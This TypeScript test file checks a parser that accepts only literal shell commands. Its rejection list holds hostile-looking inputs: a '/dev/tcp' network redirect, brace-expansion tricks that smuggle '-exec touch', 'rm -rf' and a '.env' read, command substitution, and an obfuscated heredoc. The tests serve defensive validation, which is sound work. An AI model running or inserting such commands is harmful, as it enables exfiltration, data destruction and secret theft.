import { describe, expect, it } from "vitest";
import { redirectedFiles } from "../../../src/shell/literal/literal-command.js";
import { readLiteralCommand } from "../../../src/shell/literal/reader.js";

/** Returns program and arguments of every program, with the operators between them. */
function shape(source: string) {
  return readLiteralCommand(source)?.pipelines.map(({ after, programs }) => [
    after,
    ...programs.map(({ program, arguments: words }) => [program, ...words]),
  ]);
}

describe("readLiteralCommand", () => {
  it.each<[string, unknown]>([
    ["ls -la", [[";", ["ls", "-la"]]]],
    ["  ls \n", [[";", ["ls"]]]],
    ["ls;", [[";", ["ls"]]]],
    ["cat a | wc -l", [[";", ["cat", "a"], ["wc", "-l"]]]],
    [
      "a && b || c; d",
      [
        [";", ["a"]],
        ["&&", ["b"]],
        ["||", ["c"]],
        [";", ["d"]],
      ],
    ],
    [
      "a&&b|c",
      [
        [";", ["a"]],
        ["&&", ["b"], ["c"]],
      ],
    ],
    ["grep 'a b' \"c d\"e'f'", [[";", ["grep", "a b", "c def"]]]],
    ['grep "\\$x \\" \\\\ \\n"', [[";", ["grep", '$x " \\ \\n']]]],
    ["find . \\( -name a\\;b \\)", [[";", ["find", ".", "(", "-name", "a;b", ")"]]]],
    ["git diff HEAD~1 @~2", [[";", ["git", "diff", "HEAD~1", "@~2"]]]],
    ["find . ! -name x", [[";", ["find", ".", "!", "-name", "x"]]]],
    ["grep '' é", undefined],
    ["grep '' 'é'", [[";", ["grep", "", "é"]]]],
    [
      "cd src && ls",
      [
        [";", ["cd", "src"]],
        ["&&", ["ls"]],
      ],
    ],
  ])("[APPR-038] reads %j", (source, expected) => {
    expect(shape(source)).toEqual(expected);
  });

  it("[APPR-038] keeps the order of redirections", () => {
    const [pipeline] = readLiteralCommand("ls >/dev/null 2>&1 <a 2>> 'b c'")?.pipelines ?? [];
    expect(pipeline?.programs[0]?.redirections).toEqual([
      { descriptor: 1, operator: ">", target: "/dev/null" },
      { descriptor: 2, operator: ">&", target: "1" },
      { descriptor: 0, operator: "<", target: "a" },
      { descriptor: 2, operator: ">>", target: "b c" },
    ]);
    expect(redirectedFiles({ pipelines: pipeline === undefined ? [] : [pipeline] })).toEqual([
      "a",
      "b c",
    ]);
  });

  it.each([
    "",
    "\n",
    "cat <<$'E\\x{4f}F'\nEOF\nid\nE\\x{4f}F",
    "find src {x},-exec} touch PWNED ';'",
    "cat {x},.env}",
    "rm -v {x},-rf} /outside/dir",
    "find *",
    "uniq *.md",
    "cat o*/secret.txt",
    "ls $x",
    'ls "$x"',
    'ls "a$"',
    "ls $'a'",
    'ls $"a"',
    "ls `id`",
    'ls "`id`"',
    "ls $(id)",
    "ls ~",
    "ls ~a",
    "ls a=~",
    "ls a:~/b",
    "ls 'a'~",
    "ls a?",
    "ls [ab]",
    "ls a#b",
    "# comment",
    "ls # comment",
    "ls & id",
    "ls &",
    "ls |& cat",
    "ls &> x",
    "ls &>/dev/null",
    "ls >& x",
    "ls >|x",
    "ls <> x",
    "ls << x",
    "ls <<< x",
    "ls < <(id)",
    "ls 3>x",
    "ls x2>&1",
    "ls 2>&1x",
    "ls 2>&-",
    "ls 1>&2",
    "ls >/dev/tcp/1.2.3.4/80",
    "ls >//dev/tcp/1.2.3.4/80",
    "ls > ''",
    "2>&1 ls",
    "> x",
    "ls\nid",
    "ls 'a\nb'",
    "ls \\\nid",
    "ls \\",
    "ls \\ ",
    "ls \\a",
    "ls 'a",
    'ls "a',
    "ls 'a\u200bb'",
    "ls\u00a0x",
    "ls 'a\u0007'",
    "ls '\ud800'",
    "a=1 ls",
    "'a=1' ls",
    "a+=1",
    "a[0]=1",
    "! ls",
    "{ ls; }",
    "(ls)",
    "ls()",
    "[[ a ]]",
    "((1))",
    "if ls",
    "time ls",
    "'time' ls",
    "eval ls",
    "exec ls",
    ". x",
    "source x",
    "export PATH=x",
    "command ls",
    "builtin ls",
    "%1",
    "-x",
    "'' x",
    "'a b' x",
    "&& ls",
    "ls &&",
    "ls ||",
    "ls |",
    "| ls",
    "; ls",
    "ls ;; id",
    "ls ; ; id",
    "cd",
    "cd -",
    "cd a b",
    "cd a/../b",
    "cd ../a/..",
    "cd ''",
    "cd a | ls",
    "ls | cd a",
    "cd a >x",
    `${"ls;".repeat(64)}ls`,
  ])("[APPR-038] returns undefined for %j", (source) => {
    expect(readLiteralCommand(source)).toBeUndefined();
  });
});
